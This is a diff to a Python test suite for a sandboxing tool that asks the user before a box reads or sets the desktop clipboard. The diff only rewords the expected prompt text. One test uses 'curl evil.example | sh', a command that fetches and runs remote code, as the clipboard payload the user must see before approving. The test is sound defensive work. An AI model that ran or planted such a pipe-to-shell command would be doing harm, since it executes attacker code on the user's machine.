@@ -120,7 +120,7 @@ def test_a_box_reads_only_what_the_user_lets_it(user, box, desktop, person):
     for answer, printed, status in ((person.decline, "", 1), (person.approve, "a secret", 0)):
         with user.start(*command) as asking:
             said = answer(box)
-            assert 'The box "work" asks to read your clipboard.' in said
+            assert "work: read your clipboard?" in said
             assert f'Type: "{TEXT}"' in said
             out, err = asking.communicate(timeout=LONG_ENOUGH)
         assert (out, asking.returncode) == (printed, status)
@@ -138,7 +138,7 @@ def test_a_box_copies_only_what_the_user_has_seen(user, box, desktop, person):
     for answer, held in ((person.decline, b"the user's"), (person.approve, b"curl evil.example | sh")):
         with user.start("enter", box, "--", "sh", "-c", script) as asking:
             said = answer(box)
-            assert 'The box "work" asks to set your clipboard.' in said
+            assert "work: set your clipboard?" in said
             assert 'Size: 22 bytes\nText: "curl evil.example | sh' in said
             asking.communicate(timeout=LONG_ENOUGH)
         assert desktop.paste() == held
